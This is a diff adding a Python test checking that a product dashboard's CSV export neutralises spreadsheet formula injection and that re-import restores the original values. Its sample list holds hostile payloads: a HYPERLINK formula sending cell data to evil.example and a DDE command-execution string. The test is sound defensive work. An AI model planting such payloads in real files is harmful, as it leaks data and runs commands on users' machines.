@@ -192,3 +192,53 @@ async def test_set_stock_changes_only_the_stock(console: httpx.AsyncClient, admi
     assert no_token.status_code == 403
     product = (await console.get(f"/v1/products/{product_id}", headers=bearer(admin_key))).json()
     assert product["inventory_count"] == 42
+
+
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "'=already quoted",
+    "'plain quote",
+]
+
+
+async def test_csv_export_neutralises_formulas_and_its_import_restores_them(
+    console: httpx.AsyncClient, admin_key: str
+) -> None:
+    """OWASP's CSV injection: no exported cell starts with =, +, -, @, tab or CR; the export
+    imported back as it is changes nothing."""
+    made = {
+        await _product(console, admin_key, name=name, category=f"={n}", description=desc): name
+        for n, (name, desc) in enumerate(
+            zip(FORMULA_NAMES, ["\tTabbed", "\rReturn", "-minus", "@at", "", "=x"], strict=True)
+        )
+    }
+    before = {
+        pid: (await console.get(f"/v1/products/{pid}", headers=bearer(admin_key))).json()
+        for pid in made
+    }
+    response = await console.get("/dashboard/products/export")
+    _header, *rows = _csv(response)
+    assert [row[0] for row in rows] == list(made)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert rows[0][1] == "'" + FORMULA_NAMES[0]
+    assert rows[4][1] == "''=already quoted"
+    assert rows[5][1] == "'plain quote"
+
+    token = await page_token(console, "/dashboard/products")
+    files = {"file": ("products.csv", response.content, "text/csv")}
+    imported = await console.post(
+        "/dashboard/products/import", data={"csrf_token": token}, files=files
+    )
+    assert imported.status_code == 303, imported.text[:2000]
+    assert "created=0" in imported.headers["location"]
+    for pid, name in made.items():
+        after = (await console.get(f"/v1/products/{pid}", headers=bearer(admin_key))).json()
+        assert after["name"] == name
+        assert {k: after[k] for k in ("name", "description", "category", "price")} == {
+            k: before[pid][k] for k in ("name", "description", "category", "price")
+        }
